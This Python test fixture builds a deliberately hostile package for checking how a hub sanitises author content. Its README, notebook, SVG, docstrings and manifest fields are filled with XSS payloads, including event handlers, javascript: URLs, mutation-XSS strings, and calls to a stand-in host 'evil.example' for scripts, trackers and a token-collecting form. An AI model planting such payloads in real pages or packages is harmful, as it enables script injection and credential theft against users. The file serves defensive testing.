"""A release in which everything that an author writes is hostile.

Each attack calls `alert` with its own name, or asks another host: a test counts what
ran and what was asked for.
"""

# ruff: noqa: E501, ISC004  # attacks stand as they are written
from __future__ import annotations

import base64
import json

from tests.factories import make_wheel

ELSEWHERE = "evil.example"
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" '
    'onload="alert(\'svg-onload\')"><script>alert("svg-script")</script>'
    f'<image href="https://{ELSEWHERE}/in-svg.png"/><rect width="40" height="40"/>'
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
    "<script>alert('foreign')</script></body></foreignObject></svg>"
)
_PNG = base64.b64encode(
    base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    )
).decode()

# What the research found to pass through Markdown as it is, and more of our own.
HTML = (
    "<script>alert('script')</script>",
    f"<script src='https://{ELSEWHERE}/x.js'></script>",
    "<img src=x onerror=alert('img-onerror')>",
    "<img src='x' onerror='alert(1)'//>",
    "<svg onload=alert('svg')></svg>",
    "<svg><animate onbegin=alert('onbegin') attributeName=x dur=1s></svg>",
    "<svg><script>alert('svg-script')</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    f"<iframe src='https://{ELSEWHERE}/frame'></iframe>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<style>body { display: none } * { background: red !important }</style>",
    f"<style>@import 'https://{ELSEWHERE}/x.css';</style>",
    f"<link rel=stylesheet href='https://{ELSEWHERE}/y.css'>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/meta'>",
    f"<base href='https://{ELSEWHERE}/'>",
    f"<form action='https://{ELSEWHERE}/form'><input name=token><button>Sign in</button></form>",
    "<form><button formaction=\"javascript:alert('formaction')\">x</button></form>",
    "<math><mi xlink:href=\"javascript:alert('math')\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
    "<div style='position:fixed;inset:0;z-index:99;background:#fff'>Your session ended</div>",
    "<div id=main class='top skip'>the id and the classes of the page</div>",
    "<p id=said class=vh>clobbered</p><a name=root id=root>root</a>",
    "<form id=documentElement><input name=dataset></form>",
    "<details open ontoggle=alert('ontoggle')><summary>x</summary></details>",
    "<video><source onerror=alert('video')></video>",
    f"<video src='https://{ELSEWHERE}/v.mp4' autoplay></video>",
    f"<audio src='https://{ELSEWHERE}/a.mp3' autoplay onerror=alert('audio')></audio>",
    "<object data=\"javascript:alert('object')\"></object>",
    f"<embed src='https://{ELSEWHERE}/e.swf'>",
    "<marquee onstart=alert('marquee')>x</marquee>",
    "<input autofocus onfocus=alert('onfocus')>",
    "<select autofocus onfocus=alert('select')></select>",
    "<textarea autofocus onfocus=alert('textarea')></textarea>",
    "<body onload=alert('body')>",
    "<a href=\"javascript:alert('a')\">one</a>",
    "<a href=\"JaVaScRiPt:alert('case')\">two</a>",
    "<a href=\"java\tscript:alert('tab')\">three</a>",
    "<a href=\"&#106;avascript:alert('entity')\">four</a>",
    "<a href=\"\x01javascript:alert('control')\">five</a>",
    '<a href="vbscript:msgbox(1)">six</a>',
    "<a href=\"data:text/html,<script>alert('data')</script>\">seven</a>",
    f"<a href='//{ELSEWHERE}/x'>eight</a>",
    f"<a href='/\\{ELSEWHERE}/x'>nine</a>",
    f"<a href='https://hub.example@{ELSEWHERE}/'>ten</a>",
    "<a href='../../../../account'>eleven</a>",
    f"<a href='https://{ELSEWHERE}' target=_blank rel=opener ping='https://{ELSEWHERE}/ping'>twelve</a>",
    f"<img src='https://{ELSEWHERE}/track.png' alt='tracker'>",
    f"<img srcset='https://{ELSEWHERE}/set.png 1x' alt='set'>",
    f"<picture><source srcset='https://{ELSEWHERE}/p.png'><img alt=picture></picture>",
    f"<table background='https://{ELSEWHERE}/bg.png'><tr><td>cell</td></tr></table>",
    "<img src='/badge/acme/add.svg' alt='own badge'>",
    "<xmp><img src=x onerror=alert('xmp')></xmp>",
    "<!--><img src=x onerror=alert('comment')>-->",
    "<![CDATA[<img src=x onerror=alert('cdata')>]]>",
    "<x onclick=alert('x') tabindex=0 id=x>focus</x>",
    "<template><img src=x onerror=alert('template')></template>",
    "<ul><p>no item</p>text<li>item</ul><li>alone</li>",
    "<table><tr><th></th><th>x</th></tr><tr><td>1</td></tr></table>",
    "<h1>One</h1><h6>Six</h6><h1></h1>",
    # These swallow what comes after them.
    "<textarea autofocus onfocus=alert('open-textarea')>",
    "<title><img src=x onerror=alert('title')>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    "&lt;img src=1 onerror=alert('mxss')&gt;\">",
    "<plaintext>",
)
MARKDOWN = (
    "[x](javascript:alert('md'))",
    "[x](JAVASCRIPT:alert('md-case'))",
    "[x](<java\nscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert('md-img'))",
    f"![tracker](https://{ELSEWHERE}/md.png)",
    "![drawn](drawn.svg)",
    f"<javascript:alert('auto')> <https://{ELSEWHERE}/auto>",
    "[ref]\n\n[ref]: javascript:alert('ref') 'x\" onclick=alert(1) y=\"'",
    "[title](https://ok.example 'x\" onmouseover=\"alert(1)')",
    '![alt" onerror="alert(1)](drawn.svg)',
    "```html\n<script>alert('fence')</script>\n```",
    '```"><script>alert("info")</script>\nx\n```',
    "`<script>alert('code')</script>`",
    "# Heading <img src=x onerror=alert('heading')> {#main}",
    "| a | <script>alert('cell')</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
)
README = "# Hostile\n\n" + "\n\n".join((*MARKDOWN, "The middle is read.", *HTML)) + "\n"

_MIMES = (
    {"text/html": ["<script>alert('nb-html')</script>", "<b onclick=alert(1)>bold</b>"]},
    {"text/html": "<style>.top { display: none }</style><table border=1 onload=alert(1)>"
     "<thead><tr><th></th><th>x</th></tr></thead><tr><th>0</th><td>1</td></tr></table>"},
    {"application/javascript": "alert('nb-js')", "text/plain": "js"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "w"},
    {"image/svg+xml": _SVG, "text/plain": "<Figure onerror=alert(1)>"},
    {"image/png": _PNG, "text/plain": 'x" onerror="alert(1)'},
    {"image/png": base64.b64encode(b"<script>alert('png')</script>").decode()},
    {"text/markdown": "[x](javascript:alert('nb-md')) <img src=x onerror=alert(1)>"},
    {"text/latex": "$\\href{javascript:alert(1)}{x}$", "text/plain": "latex"},
    {"text/html": f"<img src='data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}'>"},
    {"text/html": "<img src='data:text/html,<script>alert(1)</script>'>"},
    {"text/plain": "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m"},
)  # fmt: skip
NOTEBOOK = json.dumps(
    {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"language_info": {"name": "\"><script>alert('lang')</script>"}},
        "cells": [
            # Each in a cell and an output of its own: some would swallow what follows.
            *(
                {"cell_type": "markdown", "metadata": {}, "source": f"a\n\n{each}\n"}
                for each in (*MARKDOWN, *HTML)
            ),
            {
                "cell_type": "code",
                "execution_count": 0,
                "metadata": {},
                "source": "show(html)",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": f"<p>shown</p>{each}"},
                    }
                    for each in HTML
                ],
            },
            {
                "cell_type": "markdown",
                "metadata": {},
                "attachments": {"a.svg": {"image/svg+xml": _SVG}},
                "source": "# Part\n\n![attached](attachment:a.svg)\n\n# Part",
            },
            {
                "cell_type": "code",
                "execution_count": 1,
                "metadata": {},
                "source": "'</code></pre><script>alert(\"source\")</script>'",
                "outputs": [
                    *(
                        {"output_type": "display_data", "metadata": {}, "data": each}
                        for each in _MIMES
                    ),
                    {
                        "output_type": "stream",
                        "name": "stdout",
                        "text": "<script>alert('stream')</script>",
                    },
                    {
                        "output_type": "error",
                        "ename": "E",
                        "evalue": "v",
                        "traceback": ["\x1b[31m<img src=x onerror=alert('trace')>"],
                    },
                ],
            },
            {"cell_type": "raw", "metadata": {}, "source": "<script>alert(1)</script>"},
            {"cell_type": ["odd"], "source": {"not": "text"}},
            "no cell at all",
        ],
    }
)
CODE = '''"""</title><script>alert('module')</script>"""

from __future__ import annotations

from typing import Literal


def add(
    first: float,
    kind: Literal["<img src=x onerror=alert('choice')>", "b"] = "b",
    text: str = "\\"><script>alert('default')</script>",
) -> float:
    """Add </script><script>alert('summary')</script> `<b>code</b>`.

    More <img src=x onerror=alert('description')> of it.

    Args:
        first: A number [<script>alert('unit')</script>].
        kind: One of <svg onload=alert('doc')> {{ 7 * 7 }} ${7 * 7}.
        text: `</code><script>alert('ticks')</script>`.

    Returns:
        The sum <iframe src="javascript:alert('returns')"></iframe>.

    Raises:
        ValueError: when <script>alert('raises')</script>.
    """
    return first  # </pre><script>alert('comment')</script>
'''
TEXT = (
    "</script><script>alert('{}')</script><img src=x onerror=alert('{}')> {{{{ 7*7 }}}}"
)


def hostile_wheel(name="acme/hostile", version="1.0.0"):
    """The wheel, as far as a hub takes it."""

    def quoted(text):
        return json.dumps(text)

    return make_wheel(
        name,
        version,
        code=CODE,
        manifest={
            "summary": quoted(TEXT.format("summary", "summary")),
            "example": "example.ipynb",
            "authors": f"[{{name: {quoted(TEXT.format('author', 'author'))}, email: {quoted('a@b.example')}}}]",
            # Keywords and addresses are refused where they are not of their form.
            "keywords": "[eda, script]",
            "repository": quoted("https://e.example/%22onmouseover=alert(1)"),
        },
        files={
            "README.md": README,
            "example.ipynb": NOTEBOOK,
            "drawn.svg": _SVG,
            "page.html": "<script>alert('page')</script>",
        },
    )
